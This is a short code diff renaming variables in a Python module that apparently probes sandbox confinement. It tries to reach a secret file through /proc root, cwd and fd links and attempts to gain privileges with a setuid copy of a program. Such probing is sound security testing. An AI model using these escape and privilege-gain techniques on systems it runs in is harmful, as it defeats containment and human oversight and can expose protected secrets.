@@ -81,16 +81,16 @@ def _touch(folder: str) -> None:
 
 def read_through_proc(secret: str) -> Tried:
     """Leave the root through links of /proc."""
-    doors = [
+    roots = [
         "/proc/1/root",
         "/proc/self/root",
         "/proc/self/root/../..",
         "/proc/1/cwd" + "/.." * 8,
         "/proc/self/cwd" + "/.." * 8,
     ]
-    doors += [f"/proc/{pid}/root" for pid in range(2, 9)]
-    doors += [f"/proc/self/fd/{fd}" + "/.." * 8 for fd in range(3, 12)]
-    return {door: attempt(text_of, door + secret) for door in doors}
+    roots += [f"/proc/{pid}/root" for pid in range(2, 9)]
+    roots += [f"/proc/self/fd/{fd}" + "/.." * 8 for fd in range(3, 12)]
+    return {root: attempt(text_of, root + secret) for root in roots}
 
 
 def link_to(secret: str, folder: str) -> Tried:
@@ -136,10 +136,10 @@ def gain_by_setuid(program: str) -> dict[str, object]:
     own.write_bytes(pathlib.Path(program).read_bytes())
     marked = attempt(own.chmod, 0o6755)
     try:
-        said = subprocess.run(["./gain", "-u"], capture_output=True, text=True, check=False).stdout.strip()
+        output = subprocess.run(["./gain", "-u"], capture_output=True, text=True, check=False).stdout.strip()
     except OSError as problem:
-        said = type(problem).__name__
-    return {"uid": os.geteuid(), "marked": marked, "mode": oct(own.stat().st_mode & 0o7777), "said": said}
+        output = type(problem).__name__
+    return {"uid": os.geteuid(), "marked": marked, "mode": oct(own.stat().st_mode & 0o7777), "said": output}
 
 
 def plant_configuration(command: str) -> list[str]:
